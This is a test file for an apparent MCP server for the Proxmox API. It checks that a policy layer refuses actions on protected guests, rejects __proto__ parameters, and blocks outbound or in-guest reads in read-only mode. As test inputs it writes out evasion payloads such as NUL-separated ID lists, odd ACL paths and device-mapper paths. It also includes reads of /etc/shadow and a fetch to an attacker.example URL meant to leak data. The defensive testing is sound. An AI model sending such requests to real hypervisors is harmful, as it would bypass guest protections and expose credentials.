// Issue 10 through the real MCP client against the fake: every form Proxmox accepts for a
// protected guest is refused before a byte leaves, reads that reach other hosts or inside guests
// follow the policy, and a __proto__ parameter is refused instead of dropped.
import { afterAll, describe, expect, test } from "bun:test";
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { FileAccess } from "../../src/files/resolver.ts";
import { textOf } from "../support/mcp.ts";
import { expectRefusal, policySuite, protectedFile } from "../support/policy.ts";

const file = protectedFile();
const downloads = realpathSync(mkdtempSync(join(tmpdir(), "pve-mcp-reach-")));
afterAll(() => rmSync(downloads, { recursive: true, force: true }));

const suite = policySuite((fake) => {
  fake.route("POST", "/nodes/{node}/startall", (req) => ({ data: fake.startTask(req.pathParams.node!, "startall", "") }));
  fake.route("GET", "/nodes/{node}/qemu/{vmid}/agent/{command}", () => ({ data: { result: { "host-name": "web" } } }));
  fake.route("GET", "/nodes/{node}/scan/nfs", () => ({ data: [{ path: "/export", options: "*" }] }));
  fake.route("GET", "/nodes/{node}/storage/{storage}/file-restore/download", () => ({ data: "restored" }));
});

async function request(method: string, path: string, parameters?: unknown) {
  const harness = suite.harness ?? (await suite.open({ PROXMOX_PROTECTED_VMS_FILE: file }));
  return harness.call("proxmox_request", { method, path, ...(parameters !== undefined ? { parameters } : {}) });
}

describe("protected guests in every form Proxmox accepts", () => {
  const refused: [string, string, string, Record<string, unknown>, string][] = [
    ["a NUL-separated vms list", "POST", "/nodes/pve1/startall", { vms: "101\u0000100" }, "protected guest 100 (mcp-host, host pve1) through parameter vms"],
    ["a NUL-separated vzdump vmid list", "POST", "/nodes/pve1/vzdump", { vmid: "101\u0000105", storage: "local" }, "protected guest 105 (dns) through parameter vmid"],
    ["a NUL-separated pool membership", "PUT", "/pools/prod", { vms: "101\u0000100" }, "through parameter vms"],
    ["a NUL inside a batch", "POST", "/nodes/pve1/execute", { commands: JSON.stringify([{ method: "POST", path: "startall", args: { vms: "101\u0000100" } }]) }, "POST /nodes/pve1/startall refused"],
    ["a list that cannot be read", "POST", "/nodes/pve1/startall", { vms: "101\u0000 100" }, 'cannot read (" 100" in parameter vms)'],
    ["prunebackups without vmid", "DELETE", "/nodes/pve1/storage/pbs/prunebackups", { "prune-backups": "keep-last=1" }, "pruning the backups of every guest on storage pbs"],
    ["prunebackups of the guest", "DELETE", "/nodes/pve1/storage/pbs/prunebackups", { vmid: 100 }, "through parameter vmid"],
    ["destroying a ZFS pool", "DELETE", "/nodes/pve1/disks/zfs/tank", { "cleanup-disks": 1 }, "removing ZFS pool tank on node pve1"],
    ["an HA group change", "PUT", "/cluster/ha/groups/prod", { nodes: "pve2" }, "HA group prod, whose guests cannot be checked locally"],
    ["a device-mapper path in args", "PUT", "/nodes/pve1/qemu/200/config", { args: "-drive file=/dev/mapper/pve-vm--100--disk--0,if=none,id=d1" }, "through the volume /dev/mapper/pve-vm--100--disk--0 in parameter args"],
    ["a zvol in a disk", "PUT", "/nodes/pve1/qemu/200/config", { scsi1: "/dev/zvol/rpool/data/vm-105-disk-0" }, "protected guest 105 (dns) through the volume /dev/zvol/rpool/data/vm-105-disk-0"],
    ["a bind mount of the guest's directory", "PUT", "/nodes/pve1/lxc/200/config", { mp0: "/var/lib/vz/images/100,mp=/mnt/x" }, "through the volume /var/lib/vz/images/100 in parameter mp0"],
    ["an ACL path with doubled slashes", "PUT", "/access/acl", { path: "//vms/100", roles: "PVEVMAdmin", users: "eve@pve" }, "through the ACL path //vms/100"],
    ["an ACL path with a leading zero", "PUT", "/access/acl", { path: "/vms/0100/", roles: "PVEVMAdmin", users: "eve@pve" }, "through the ACL path /vms/0100/"],
    ["an ACL on /", "PUT", "/access/acl", { path: "/", roles: "Administrator", users: "eve@pve" }, "the ACL on /, which propagates to every guest"],
    ["stopping the guest's task", "DELETE", `/nodes/pve1/tasks/${encodeURIComponent("UPID:pve1:00001234:00005678:65A0B0C0:qmstart:100:root@pam:")}`, {}, "through the task UPID:pve1:00001234:00005678:65A0B0C0:qmstart:100:root@pam:"],
  ];
  test.each(refused)("%s is refused and nothing is sent", async (_label, method, path, parameters, via) => {
    const text = expectRefusal(await request(method, path, parameters), "refused_protected_guest");
    expect(text).toContain(via);
    expect(suite.fake.apiRequests()).toHaveLength(0);
  });

  test("the same action without a protected guest reaches Proxmox", async () => {
    const result = await request("POST", "/nodes/pve1/startall", { vms: "101\u0000102" });
    expect(result.isError).toBeFalsy();
    expect(suite.seen()).toEqual(["POST /nodes/pve1/startall"]);
    expect(suite.fake.apiRequests()[0]!.params.vms).toBe("101\u0000102");
  });
});

describe("__proto__ and other object internals in parameters", () => {
  test.each([
    ["an object decoded from raw JSON", JSON.parse('{"__proto__": {"vmid": 100}, "timeout": 5}') as unknown],
    ["the same as a JSON string", '{"__proto__": {"vmid": 100}, "timeout": 5}'],
    ["constructor", JSON.parse('{"constructor": "x"}') as unknown],
  ])("%s is refused by name, not dropped", async (_label, parameters) => {
    const text = expectRefusal(await request("POST", "/nodes/pve1/qemu/101/status/stop", parameters), "invalid_parameters");
    expect(text).toMatch(/parameter '(__proto__|constructor)' is refused: it names a JavaScript object internal/);
    const read = await suite.harness!.call("proxmox_get", { path: "/nodes", parameters });
    expectRefusal(read, "invalid_parameters");
    expect(suite.fake.apiRequests()).toHaveLength(0);
  });
});

describe("reads inside protected guests", () => {
  test("proxmox_get of a file inside a protected guest is refused; its facts stay readable", async () => {
    const h = await suite.open({ PROXMOX_PROTECTED_VMS_FILE: file });
    const text = expectRefusal(
      await h.call("proxmox_get", { path: "/nodes/pve1/qemu/100/agent/file-read", parameters: { file: "/etc/shadow" } }),
      "refused_protected_guest",
    );
    expect(text).toContain("it reads a file inside the guest, and the guest is protected: 100 (mcp-host, host pve1)");
    expect(suite.fake.apiRequests()).toHaveLength(0);
    const facts = await h.call("proxmox_get", { path: "/nodes/pve1/qemu/100/agent/network-get-interfaces" });
    expect(facts.isError).toBeFalsy();
    expect(suite.seen()).toEqual(["GET /nodes/pve1/qemu/100/agent/network-get-interfaces"]);
  });

  test("proxmox_download of a protected guest's backup is refused and no file is made", async () => {
    const h = await suite.open({ PROXMOX_PROTECTED_VMS_FILE: file }, { files: new FileAccess({ roots: [downloads] }) });
    const destination = join(downloads, "shadow.zip");
    const result = await h.call("proxmox_download", {
      path: "/nodes/pve1/storage/pbs/file-restore/download",
      parameters: { volume: "pbs:backup/vm/100/2025-01-01T00:00:00Z", filepath: "L2V0Yy9zaGFkb3c=" },
      destination,
    });
    expect(expectRefusal(result, "refused_protected_guest")).toContain("it lists or reads files inside a backup, and the guest is protected: 100 (mcp-host");
    expect(existsSync(destination)).toBe(false);
    expect(suite.fake.apiRequests()).toHaveLength(0);
  });
});

describe("read-only mode and reads that reach further", () => {
  const files = () => ({ files: new FileAccess({ roots: [downloads] }) });

  test("outbound reads and reads inside guests are refused by both reading tools, facts are not", async () => {
    const h = await suite.open({ PROXMOX_READ_ONLY: "true" }, files());
    const scan = await h.call("proxmox_get", { path: "/nodes/pve1/scan/nfs", parameters: { server: "10.0.0.5" } });
    expect(expectRefusal(scan, "refused_read_only_outbound")).toContain("PROXMOX_READ_ONLY_ALLOW_OUTBOUND=true");
    const url = await h.call("proxmox_download", {
      path: "/nodes/pve1/query-url-metadata",
      parameters: { url: "https://attacker.example/?leak" },
      destination: join(downloads, "meta.json"),
    });
    expectRefusal(url, "refused_read_only_outbound");
    const inside = await h.call("proxmox_get", { path: "/nodes/pve1/qemu/101/agent/file-read", parameters: { file: "/etc/hostname" } });
    expect(expectRefusal(inside, "refused_read_only_guest_content")).toContain("PROXMOX_READ_ONLY_ALLOW_GUEST_CONTENT=true");
    const restore = await h.call("proxmox_download", {
      path: "/nodes/pve1/storage/pbs/file-restore/download",
      parameters: { volume: "pbs:backup/vm/101/2025-01-01T00:00:00Z", filepath: "Lw==" },
      destination: join(downloads, "restore.zip"),
    });
    expectRefusal(restore, "refused_read_only_guest_content");
    expect(suite.fake.apiRequests()).toHaveLength(0);
    const facts = await h.call("proxmox_get", { path: "/nodes/pve1/qemu/101/agent/get-host-name" });
    expect(facts.isError).toBeFalsy();
    expect(suite.seen()).toEqual(["GET /nodes/pve1/qemu/101/agent/get-host-name"]);
  });

  test("the opt-in settings let them through", async () => {
    const h = await suite.open(
      { PROXMOX_READ_ONLY: "true", PROXMOX_READ_ONLY_ALLOW_OUTBOUND: "true", PROXMOX_READ_ONLY_ALLOW_GUEST_CONTENT: "true" },
      files(),
    );
    const scan = await h.call("proxmox_get", { path: "/nodes/pve1/scan/nfs", parameters: { server: "10.0.0.5" } });
    expect(scan.isError).toBeFalsy();
    const inside = await h.call("proxmox_get", { path: "/nodes/pve1/qemu/101/agent/file-read", parameters: { file: "/etc/hostname" } });
    expect(textOf(inside)).toContain("web");
    expect(suite.seen()).toEqual(["GET /nodes/pve1/scan/nfs", "GET /nodes/pve1/qemu/101/agent/file-read"]);
  });
});

test("a refused read is an audit line of its own; reads that pass leave none", async () => {
  const audit = join(downloads, "audit.jsonl");
  const h = await suite.open({ PROXMOX_READ_ONLY: "true", PROXMOX_AUDIT_LOG: audit });
  expectRefusal(await h.call("proxmox_get", { path: "/nodes/pve1/scan/nfs", parameters: { server: "10.0.0.5" } }), "refused_read_only_outbound");
  expect((await h.call("proxmox_get", { path: "/nodes/pve1/qemu/101/agent/info" })).isError).toBeFalsy();
  const lines = readFileSync(audit, "utf8").trimEnd().split("\n").map((line) => JSON.parse(line) as Record<string, any>);
  expect(lines.map((e) => `${e.method} ${e.path} ${e.outcome.result} ${e.outcome.refusal}`)).toEqual([
    "GET /nodes/pve1/scan/nfs refused refused_read_only_outbound",
  ]);
});
